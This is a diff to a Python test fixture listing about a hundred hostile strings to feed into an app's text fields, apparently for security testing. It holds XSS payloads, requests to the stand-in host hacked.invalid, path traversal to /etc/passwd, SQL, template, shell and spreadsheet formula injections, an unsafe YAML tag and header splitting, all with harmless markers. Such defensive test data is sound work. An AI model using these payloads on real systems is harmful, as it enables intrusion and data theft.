@@ -1,4 +1,4 @@
-"""Names that strangers give to artists, tracks and places."""
+"""Names that strangers give to artists, tracks and places, and texts that they write anywhere."""
 
 NAMES = (
     "<script>alert(1)</script>",
@@ -18,4 +18,88 @@ NAMES = (
     "宇多田ヒカル", "فيروز", "נועה קירל", "मोहम्मद रफ़ी", "ลำไย", "ភ្លៀង", "ქართული",
     "Þeyr", "방탄소년단",
     "👨‍👩‍👧 🎉", "Z̷̢̛a̷l̷g̷o̷", "", " ",
+)  # fmt: skip
+
+# What has become true where any of it was executed, rendered or filled in: never of a page.
+MARKER = "hacked"
+PRODUCT = "1787569"  # of 1337 * 1337, as a template engine would write it
+
+# A hundred texts for titles, transcripts, names of speakers, files, tags, places, cameras, errors,
+# reasons, sources. Scripts among them set `window.hacked`, elements have the id `hacked`, and what
+# would load something asks for it at hacked.invalid.
+TEXTS = (
+    *NAMES[:-2],
+    # Elements and how they end
+    "<script>window.hacked=1</script>",
+    "</script><script>window.hacked=1</script>",
+    "<img src=x onerror=window.hacked=1>",
+    "<IMG SRC=//hacked.invalid/a.png>",
+    "<svg/onload=window.hacked=1><circle id=hacked r=9>",
+    "<svg><script>window.hacked=1</script></svg>",
+    "<svg><a xlink:href=javascript:window.hacked=1><text y=20>click</text></a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1></style></mglyph>",
+    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
+    "<object data=data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=>",
+    "<form action=https://hacked.invalid><input name=csrf><button>Go</button></form>",
+    "<meta http-equiv=refresh content='0;url=https://hacked.invalid/'>",
+    "<base href=https://hacked.invalid/>",
+    "<link rel=stylesheet href=https://hacked.invalid/a.css>",
+    "<style>body{display:none;background:url(//hacked.invalid/b)}</style>",
+    "<details open ontoggle=window.hacked=1>x</details>",
+    "<video><source onerror=window.hacked=1></video>",
+    "<a href=javascript:window.hacked=1 id=hacked>click me</a>",
+    "<div id=hacked hx-get=//hacked.invalid hx-trigger=load>htmx</div>",
+    "<template shadowrootmode=open><slot id=hacked></template>",
+    "<dialog open id=hacked>Your session is over. Password: <input></dialog>",
+    "<!--><script>window.hacked=1</script-->",
+    "<![CDATA[<script>window.hacked=1</script>]]>",
+    "<plaintext>",
+    "</textarea></select></option></button></dialog><h1 id=hacked>free</h1>",
+    "</bdi></a></li></ul></main></body></html><h1 id=hacked>after the end</h1>",
+    "&lt;script&gt;window.hacked=1&lt;/script&gt; &amp;#39; &#x27;",
+    "&#60;img src=x onerror=window.hacked=1&#62;",
+    # Attributes and how they end
+    "\" autofocus onfocus=window.hacked=1 id=hacked x=\"",
+    "' autofocus onfocus=window.hacked=1 id=hacked x='",
+    "` onmouseover=window.hacked=1 id=hacked",
+    "x\" style=\"position:fixed;inset:0;background:red\" id=\"hacked",
+    "\"><h1 id=hacked>out</h1>",
+    "\" hx-on:load=\"window.hacked=1",
+    "\\\"; window.hacked=1; //",
+    "\u2028window.hacked=1\u2029",
+    "</title><h1 id=hacked>title</h1>",
+    # Addresses
+    "javascript:window.hacked=1",
+    " \tJaVa\nScRiPt:window.hacked=1",
+    "data:text/html,<script>parent.hacked=1</script>",
+    "vbscript:msgbox(1)",
+    "//hacked.invalid/a",
+    "\\\\hacked.invalid\\share",
+    "https://user:password@hacked.invalid/#\"onclick=\"window.hacked=1",
+    "file:///etc/passwd",
+    "..%2f..%2f..%2fetc%2fpasswd",
+    "../../../../etc/passwd",
+    "....//....//etc/passwd\x00.jpg",
+    "C:\\Windows\\System32\\config",
+    "CON", "a/b", "?q=1#fragment&x=%00", "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
+    # Templates, formats, formulas, queries, commands
+    "{{ 1337 * 1337 }}", "${1337 * 1337}", "#{1337 * 1337}", "{% raw %}{{ 1337 * 1337 }}",
+    "{{ self.__init__.__globals__ }}", "{{''.__class__.__mro__}}", "%(num)s %s %d {0} {title}",
+    "=1337*1337", "+1337*1337", "@SUM(1337*1337)", "-2+3|cmd|' /C calc'!A0", "=cmd|' /C calc'!A0",
+    "'; DROP TABLE items; --", "\" OR 1=1 --", "%' AND '_'='_", "NEAR(a b) AND OR NOT *",
+    "$(touch hacked) `touch hacked` ; touch hacked | touch hacked", "!!python/object:os.system x",
+    "\r\nSet-Cookie: hacked=1\r\n\r\n<h1 id=hacked>split</h1>",
+    # What looks like nothing
+    "null", "None", "undefined", "NaN", "true", "0", "-1", "[object Object]", "\u200b\u200b\u200b",
+    # Writing of the world, and what breaks it
+    "\u202e gnp.exe\u202c \u2067abc\u2066def",
+    "\u2066\u2067\u2068 never closed",
+    "Z" + "\u0300\u0301\u0302\u0303\u0334\u0335\u0336\u0337" * 40 + "algo",
+    "👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍🚀🇩🇪 family",
+    "\ufdfd\ufdfd\ufdfd", "مرحبا بالعالم 123 (abc) <b>", "שלום world 12:30 «text»",
+    "吾輩は猫である。名前はまだ無い。" * 12,
+    "ភាសាខ្មែរគ្មានដកឃ្លារវាងពាក្យទេ" * 6,
+    "한국어 제목 — 밤의 교대", "ﷺ ꧁༺ title ༻꧂", "ＦＵＬＬ　ＷＩＤＴＨ ｔｅｘｔ",
+    "half a \ud83d character", "a\u00ad\u00adsoft\u00adhyphen\ufeff", "\U000e0041\U000e0042 tags",
+    "W" * 10_000, "-" * 300, "a." * 2_000, "<b>" * 500, "\x1b]0;hacked\x07\x1b[2J\x9b31m",
 )  # fmt: skip
